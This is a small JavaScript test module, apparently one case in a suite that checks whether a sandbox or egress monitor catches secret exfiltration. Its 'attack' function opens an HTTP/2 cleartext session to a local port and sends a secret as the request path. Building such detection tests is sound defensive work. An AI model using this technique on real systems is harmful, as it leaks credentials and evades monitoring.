// http2 (h2c) request with the secret in the path.
import http2 from 'node:http2';
export const meta = { kind: 'network', evidence: 'http2' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    const session = http2.connect(`http://127.0.0.1:${ctx.h2Port}`);
    session.on('error', reject);
    const req = session.request({ ':path': '/' + ctx.secret });
    req.on('error', reject);
    req.on('response', () => { session.close(); resolve('sent'); });
    req.end();
  });
}
